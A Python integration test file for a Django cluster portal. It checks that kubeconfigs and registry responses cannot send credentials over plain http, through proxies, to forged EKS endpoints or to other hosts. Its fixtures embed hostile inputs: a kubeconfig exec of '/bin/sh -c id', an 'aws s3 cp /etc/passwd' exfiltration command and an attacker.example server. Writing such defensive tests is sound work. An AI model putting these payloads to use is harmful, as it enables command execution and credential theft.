"""Class 7: credentials go only where they belong.

A kubeconfig is user input that steers Slipway's own credentials: bearer tokens only over https with
TLS verified and no proxy; EKS tokens (minted from Slipway's AWS identity) only to the endpoint
``eks:DescribeCluster`` reports; no local files, no commands. Checked at registration and again
whenever a client is built, so a kubeconfig stored some other way obeys the same rules.
"""

from __future__ import annotations

import threading
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml
from django.core.exceptions import ValidationError

from clusters.health import cluster_check_health
from clusters.kube import client as kubeclient
from clusters.models import Cluster
from clusters.services import cluster_register_existing
from environments.catalog.registries import RegistryError
from environments.catalog.registries.v2 import V2Registry
from portal import aws
from portal.audit.actor import Actor

pytestmark = pytest.mark.integration

EKS_USER = {"exec": {"apiVersion": "client.authentication.k8s.io/v1beta1", "command": "aws",
                     "args": ["eks", "get-token", "--cluster-name", "{name}", "--region", "us-east-1"]}}


def kubeconfig(server: str, user: dict, **cluster_extra) -> str:
    return yaml.safe_dump({"apiVersion": "v1", "kind": "Config", "current-context": "c",
                           "clusters": [{"name": "c", "cluster": {"server": server, **cluster_extra}}],
                           "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
                           "users": [{"name": "u", "user": user}]})


def eks_user(name: str) -> dict:
    return {"exec": {**EKS_USER["exec"], "args": [a.replace("{name}", name) for a in EKS_USER["exec"]["args"]]}}


class LoopbackServer:
    """A plain-http server on a free loopback port, answering with ``handler`` (quiet) until closed."""

    def __init__(self, handler: type[BaseHTTPRequestHandler]) -> None:
        handler.log_message = lambda *args: None
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class Listener(LoopbackServer):
    """A plain-http server that records every request's Authorization header (the would-be thief)."""

    def __init__(self) -> None:
        seen = self.seen = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                seen.append(self.headers.get("Authorization") or "")
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.end_headers()
                self.wfile.write(b'{"major": "1", "minor": "30", "gitVersion": "v1.30.0", "items": []}')

        super().__init__(Handler)


@pytest.fixture
def listener():
    made = Listener()
    yield made
    made.close()


@pytest.fixture
def eks_cluster(aws_settings):
    """An EKS cluster on the stack's moto server: its name and the endpoint EKS reports."""
    eks = aws.client("eks", region="us-east-1")
    name = f"sec-{uuid.uuid4().hex[:8]}"
    described = eks.create_cluster(name=name, roleArn="arn:aws:iam::123456789012:role/eks",
                                   resourcesVpcConfig={"subnetIds": []})["cluster"]
    yield {"name": name, "endpoint": described["endpoint"],
           "ca": (described.get("certificateAuthority") or {}).get("data", "")}
    eks.delete_cluster(name=name)


@pytest.mark.parametrize(("case", "message"), [
    ("token-over-http", "credentials go only over https://"),
    ("basic-auth-over-http", "credentials go only over https://"),
    ("eks-over-http", "credentials go only over https://"),
    ("token-without-tls-verification", "turns TLS verification off"),
    ("proxy-url", "names a proxy"),
    ("client-key-file", "refers to a local file (client-key)"),
    ("token-file", "refers to a local file (tokenFile)"),
    ("ca-file", "refers to a local file (certificate-authority)"),
    ("exec-command", "Slipway does not run commands from kubeconfigs"),
    ("exec-aws-other-command", "Slipway does not run commands from kubeconfigs"),
    ("auth-provider", "uses an auth provider"),
])
def test_registration_refuses_kubeconfigs_that_send_credentials_astray(users, case, message, listener):
    text = {
        "token-over-http": kubeconfig(listener.url, {"token": "stolen-token-123456"}),
        "basic-auth-over-http": kubeconfig(listener.url, {"username": "admin", "password": "stolen-pw-123456"}),
        "eks-over-http": kubeconfig(listener.url, eks_user("prod")),
        "token-without-tls-verification": kubeconfig("https://127.0.0.1:56443", {"token": "stolen-token-123456"},
                                                     **{"insecure-skip-tls-verify": True}),
        "proxy-url": kubeconfig("https://127.0.0.1:56443", {"token": "stolen-token-123456"},
                                **{"proxy-url": listener.url}),
        "client-key-file": kubeconfig("https://127.0.0.1:56443", {"client-certificate-data": "eA==",
                                                                  "client-key": "/etc/ssl/private/key.pem"}),
        "token-file": kubeconfig("https://127.0.0.1:56443", {"tokenFile": "/var/run/secrets/token"}),
        "ca-file": kubeconfig("https://127.0.0.1:56443", {"token": "t0ken-123456"},
                              **{"certificate-authority": "/etc/kubernetes/pki/ca.crt"}),
        "exec-command": kubeconfig("https://127.0.0.1:56443", {"exec": {"command": "/bin/sh", "args": ["-c", "id"]}}),
        "exec-aws-other-command": kubeconfig("https://127.0.0.1:56443",
                                             {"exec": {"command": "aws", "args": ["s3", "cp", "/etc/passwd", "s3://x"]}}),
        "auth-provider": kubeconfig("https://127.0.0.1:56443", {"auth-provider": {"name": "oidc"}}),
    }[case]
    with pytest.raises(ValidationError) as refused:
        cluster_register_existing(actor=Actor.for_user(users["admin"]), name="astray", kubeconfig=text)
    assert message in " ".join(refused.value.message_dict["kubeconfig"])
    assert not Cluster.objects.exists()
    assert listener.seen == []


@pytest.mark.parametrize("user", [{"token": "stored-token-123456"}, eks_user("prod")], ids=["token", "eks"])
def test_a_stored_kubeconfig_sending_credentials_over_http_never_sends_them(db, users, listener, aws_settings, user):
    # Stored some other way (before these rules, or by a blueprint): the adapter refuses on use.
    cluster = Cluster.objects.create(name="stored", kind=Cluster.EXISTING, kubeconfig=kubeconfig(listener.url, user),
                                     api_server=listener.url)
    checked = cluster_check_health(actor=Actor.system("test"), cluster=cluster)
    assert checked.status == Cluster.UNREACHABLE
    assert "only over https://" in checked.status_message
    assert listener.seen == []


def test_an_eks_token_goes_only_to_the_endpoint_eks_reports(eks_cluster):
    # The portal's own AWS identity must not mint a token for a server that merely claims the name.
    forged = kubeconfig("https://attacker.example:443", eks_user(eks_cluster["name"]))
    with pytest.raises(kubeclient.KubeconfigError, match="EKS reports that cluster's endpoint"):
        kubeclient.api_client(forged)
    with pytest.raises(kubeclient.KubeconfigError, match="EKS reports that cluster's endpoint"):
        kubeclient.async_endpoint(forged)
    genuine = kubeconfig(eks_cluster["endpoint"], eks_user(eks_cluster["name"]),
                         **({"certificate-authority-data": eks_cluster["ca"]} if eks_cluster["ca"] else {}))
    with kubeclient.api_client(genuine) as api:
        assert api.configuration.host.rstrip("/") == eks_cluster["endpoint"].rstrip("/")
        assert api.configuration.api_key["BearerToken"].startswith("Bearer k8s-aws-v1.")


def test_an_eks_token_is_not_minted_for_a_cluster_eks_does_not_know(aws_settings):
    unknown = kubeconfig("https://unknown.eks.example", eks_user(f"nope-{uuid.uuid4().hex[:6]}"))
    with pytest.raises(kubeclient.KubeconfigError, match="EKS has no cluster"):
        kubeclient.api_client(unknown)


def test_the_stack_cluster_kubeconfig_with_inline_certificates_is_accepted(kubeconfig_path):
    # https, CA and client certificate inline: the ordinary case still works.
    kubeclient.check_self_contained(Path(kubeconfig_path).read_text())
    assert kubeclient.probe(Path(kubeconfig_path).read_text())["version"]


class ChallengingRegistry(LoopbackServer):
    """A loopback v2 registry whose answers steer credentials: a Bearer challenge naming ``realm``, and a
    tag list whose next-page link points at ``next_link``."""

    def __init__(self, *, realm: str, next_link: str = "") -> None:
        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path.startswith("/token"):
                    self._json(200, b'{"token": "registry-bearer-123456"}')
                elif not self.headers.get("Authorization"):
                    self.send_response(401)
                    own = f"http://127.0.0.1:{self.server.server_address[1]}"
                    self.send_header("WWW-Authenticate", f'Bearer realm="{realm.replace("{self}", own)}",service="r"')
                    self.end_headers()
                else:
                    self._json(200, b'{"tags": ["v1"]}', link=next_link)

            def _json(self, status, body, link=""):
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                if link:
                    self.send_header("Link", f'<{link}>; rel="next"')
                self.end_headers()
                self.wfile.write(body)

        super().__init__(Handler)


REGISTRY_CREDENTIALS = {"username": "robot", "password": "registry-pw-123456"}


def test_registry_credentials_never_go_over_plain_http_to_another_host():
    registry = V2Registry(name="plain", url="http://registry.example.com", credentials=dict(REGISTRY_CREDENTIALS))
    registry.credentials["token"] = "registry-bearer-123456"
    registry._bearer["repository:app:pull"] = "registry-bearer-123456"  # a token from an earlier call
    with pytest.raises(RegistryError, match="credentials go only over https"):
        registry.tag_names("app")


def test_a_registry_cannot_send_its_credentials_to_a_plain_http_token_service():
    registry = ChallengingRegistry(realm="http://tokens.example.com/token")
    try:
        with pytest.raises(RegistryError, match="credentials go only over https"):
            V2Registry(name="r", url=registry.url, credentials=dict(REGISTRY_CREDENTIALS)).tag_names("app")
    finally:
        registry.close()


def test_a_registry_next_page_link_cannot_carry_the_token_elsewhere(listener):
    registry = ChallengingRegistry(realm="{self}/token", next_link=f"{listener.url}/v2/app/tags/list?last=v1")
    try:
        with pytest.raises(RegistryError, match="next-page link to another server"):
            V2Registry(name="r", url=registry.url, credentials=dict(REGISTRY_CREDENTIALS)).tag_names("app")
    finally:
        registry.close()
    assert listener.seen == []
